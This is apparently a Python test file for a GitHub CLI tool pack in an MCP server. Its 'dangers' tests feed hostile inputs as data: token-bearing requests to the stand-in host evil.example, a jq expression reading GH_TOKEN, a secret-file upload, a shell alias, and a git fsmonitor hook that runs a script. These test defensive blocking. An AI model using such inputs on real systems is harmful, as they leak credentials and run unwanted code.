"""The pack of gh, with a real gh and an API on a socket: what works, and what gh must not do."""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from msgspec import Struct

from dynamic_mcp.packs import library
from dynamic_mcp.packs.model import Flag, Positional, tool_name
from tests.fakes import Json, text_of
from tests.upstream.cli.packs import Place, error_of, output_of
from tests.upstream.cli.programs import git

if sys.platform == "win32":
    pytest.skip("the dangers are scripts of a Unix shell", allow_module_level=True)

ISSUE = {"number": 3, "title": "-x", "state": "OPEN", "body": "It fails."}


class Request(Struct, frozen=True):
    """What gh has asked for."""

    method: str
    target: str
    host: str
    token: str
    body: str


class Api:
    """An API that answers the same to everything, on the socket that the settings of gh name."""

    def __init__(self, place: Place) -> None:
        self.socket = place.folder / "api"
        self.requests: list[Request] = []
        self.answer: Json = {}
        settings = place.folder / ".config" / "gh" / "config.yml"
        settings.parent.mkdir(parents=True)
        settings.write_text(f'http_unix_socket: {self.socket}\naliases:\n    evil: "!{place.evil}"\n')
        place.environment |= {"GH_TOKEN": "secret", "GH_TELEMETRY": "false", "GH_NO_UPDATE_NOTIFIER": "1"}

    @contextlib.asynccontextmanager
    async def serve(self) -> AsyncIterator[None]:
        server = await asyncio.start_unix_server(self._answer, self.socket)
        async with server:
            yield

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        first, *lines = head.strip().split("\r\n")
        headers = {name.lower(): value for name, _, value in (line.partition(": ") for line in lines)}
        body = (await reader.readexactly(int(headers.get("content-length", 0)))).decode()
        method, target, _ = first.split(" ")
        self.requests.append(Request(method, target, headers["host"], headers.get("authorization", ""), body))
        content = json.dumps(self.answer).encode()
        start = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(content)}\r\n"
        writer.write(f"{start}Connection: close\r\n\r\n".encode() + content)
        await writer.drain()
        writer.close()


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path, "gh")


@pytest.fixture
async def api(place: Place) -> AsyncIterator[Api]:
    made = Api(place)
    async with made.serve():
        yield made


async def run(place: Place, *words: str, **variables: str) -> str:
    """Run gh as a person would, while the API answers."""
    return await asyncio.to_thread(place.run, *words, **variables)


@pytest.mark.full
async def test_the_api_is_read(place: Place, api: Api) -> None:
    api.answer = [{"id": 1}]
    async with place.serve() as client:
        given = {"endpoint": "repos/o/r/issues?page=1", "parameters": ["state=open", "labels=@x"]}
        assert json.loads(await output_of(client, "gh_api", given)) == [{"id": 1}]

    [request] = api.requests
    assert request.method == "GET"
    assert request.target == "/repos/o/r/issues?page=1&labels=%40x&state=open"
    assert request.host == "api.github.com"
    assert request.token == "token secret"


@pytest.mark.full
async def test_issues_are_shown_opened_and_commented_on(place: Place, api: Api) -> None:
    repository = {"id": "R", "hasIssuesEnabled": True, "issue": ISSUE}
    created = {"issue": {"id": "I", "url": "https://github.com/o/r/issues/4"}}
    api.answer = {"data": {"repository": repository, "createIssue": created}}
    async with place.serve() as client:
        shown = await output_of(client, "gh_issue_view", {"repo": "o/r", "number": 3, "json": "number,title"})
        assert json.loads(shown) == {"number": 3, "title": "-x"}
        wanted = {"repo": "o/r", "title": "-t", "body": "@b\n--web"}
        assert "issues/4" in await output_of(client, "gh_issue_create", wanted)

    variables = json.loads(api.requests[-1].body)["variables"]["input"]
    assert (variables["title"], variables["body"]) == ("-t", "@b\n--web")


@pytest.mark.full
async def test_runs_are_listed_and_cancelled(place: Place, api: Api) -> None:
    async with place.serve() as client:
        await output_of(client, "gh_run_list", {"repo": "o/r", "status": "failure", "limit": 3})
        await output_of(client, "gh_run_cancel", {"repo": "o/r", "run": 5})

    assert "status=failure" in api.requests[0].target
    assert api.requests[-1].method == "POST"


@pytest.mark.full
async def test_repositories_are_searched(place: Place, api: Api) -> None:
    api.answer = {"total_count": 0, "items": []}
    async with place.serve() as client:
        await output_of(client, "gh_search_repos", {"words": ["--web", "x"], "stars": ">5", "limit": 2})

    assert "q=--web+x+stars" in api.requests[0].target


# --- dangers -----------------------------------------------------------------------------------------------------


def calls() -> list[tuple[str, Json]]:
    """Every tool, with what it needs."""
    needs: Json = {"repo": "o/r", "title": "t", "body": "b", "head": "b", "number": 1, "run": 1}
    needs |= {"workflow": "ci.yml", "endpoint": "user", "words": ["x"]}
    made: list[tuple[str, Json]] = []
    for each in library.read_shipped("gh").commands:
        every: list[Flag | Positional] = [*each.flags, *each.positionals]
        wanted = {one.argument: needs[one.argument] for one in every if one.required or one.argument == "words"}
        made.append((tool_name("gh", each.name), wanted))
    return made


@pytest.mark.full
async def test_the_api_is_not_written_to_by_the_tool_that_reads_it(place: Place, api: Api) -> None:
    await run(place, "api", "repos/o/r", "--method=DELETE")
    await run(place, "api", "repos/o/r", "-f", "name=x")
    await run(place, "api", "repos/o/r", "--header", "X-HTTP-Method-Override: DELETE")
    assert [each.method for each in api.requests] == ["DELETE", "POST", "GET"]
    api.requests.clear()

    async with place.serve() as client:
        await output_of(client, "gh_api", {"endpoint": "repos/o/r", "parameters": ["name=x", "method=DELETE"]})
        for more in ({"method": "DELETE"}, {"header": ["X-HTTP-Method-Override: DELETE"]}, {"input": "x"}):
            await error_of(client, "gh_api", {"endpoint": "repos/o/r", **more})
        await error_of(client, "gh_api", {"endpoint": "--method=DELETE"})

    assert [each.method for each in api.requests] == ["GET"]


@pytest.mark.full
async def test_the_token_goes_to_no_other_host(place: Place, api: Api) -> None:
    place.environment["GH_ENTERPRISE_TOKEN"] = "secret"
    await run(place, "api", "http://evil.example/x")
    await run(place, "issue", "view", "https://evil.example/o/r/issues/3")
    assert {each.host for each in api.requests} == {"evil.example"}
    assert api.requests[0].token == "token secret"
    api.requests.clear()

    async with place.serve(env=["GH_*"]) as client:
        for endpoint in ("http://evil.example/x", "https://evil.example/x", "//evil.example/x", "x:y@evil.example/x"):
            await error_of(client, "gh_api", {"endpoint": endpoint})
        for repo in ("evil.example/o/r", "https://evil.example/o/r", "o/r/../x", "git@evil.example:o/r"):
            await error_of(client, "gh_issue_view", {"repo": repo, "number": 3})
            await error_of(client, "gh_repo_view", {"repo": repo})
        await error_of(client, "gh_issue_view", {"repo": "o/r", "number": "https://evil.example/o/r/issues/3"})

    assert api.requests == []


@pytest.mark.full
async def test_no_expression_reads_the_token(place: Place, api: Api) -> None:
    assert await run(place, "api", "user", "--jq", "env.GH_TOKEN") == "secret\n"

    async with place.serve() as client:
        for name in ("jq", "q", "template"):
            await error_of(client, "gh_api", {"endpoint": "user", name: "env.GH_TOKEN"})
        for tool, arguments in calls():
            assert "secret" not in text_of(await client.call("it", tool, arguments))


@pytest.mark.full
async def test_no_file_is_sent(place: Place, api: Api) -> None:
    (place.folder / "secret").write_text("from a file")
    await run(place, "api", "user", "-F", f"x=@{place.folder / 'secret'}")
    assert "from a file" in api.requests[0].body
    api.requests.clear()

    async with place.serve() as client:
        await output_of(client, "gh_api", {"endpoint": "user", "parameters": [f"x=@{place.folder / 'secret'}"]})
        for name in ("body_file", "field", "attach", "recover", "template"):
            given = {"repo": "o/r", "title": "t", "body": "b", name: str(place.folder / "secret")}
            await error_of(client, "gh_issue_create", given)

    assert all("from" not in each.target + each.body for each in api.requests)


@pytest.mark.full
async def test_no_alias_extension_browser_or_editor_is_run(place: Place, api: Api) -> None:
    for name in ("other", "pr", "issue", "api"):
        place.make_script(f".local/share/gh/extensions/gh-{name}/gh-{name}")
    programs = dict.fromkeys(("GH_BROWSER", "BROWSER", "GH_EDITOR", "EDITOR", "GH_PAGER", "PAGER"), str(place.evil))
    for words in (("evil",), ("other",), ("pr", "list", "--repo=o/r", "--web")):
        await run(place, *words, **programs)
        assert place.takes_mark(), words

    async with place.serve(programs, env=[*programs]) as client:
        for tool, arguments in calls():
            await client.call("it", tool, arguments)
            assert not place.takes_mark(), tool


@pytest.mark.full
async def test_a_repository_in_the_directory_makes_gh_run_nothing(place: Place, api: Api) -> None:
    git(place.work, "init", "--quiet", "--initial-branch=main")
    git(place.work, "remote", "add", "origin", "https://github.com/o/r")
    git(place.work, "config", "core.fsmonitor", str(place.evil))
    git(place.work, "commit", "--quiet", "--allow-empty", "--message", "one")
    place.takes_mark()
    repository = {"id": "R", "name": "r", "owner": {"login": "o"}, "defaultBranchRef": {"name": "main"}}
    api.answer = {"data": {"repo_000": repository, "repository": repository}}
    await run(place, "pr", "create", "--title=t", "--body=b")
    assert place.takes_mark()

    async with place.serve() as client:
        for tool, arguments in calls():
            await client.call("it", tool, arguments)
            assert not place.takes_mark(), tool
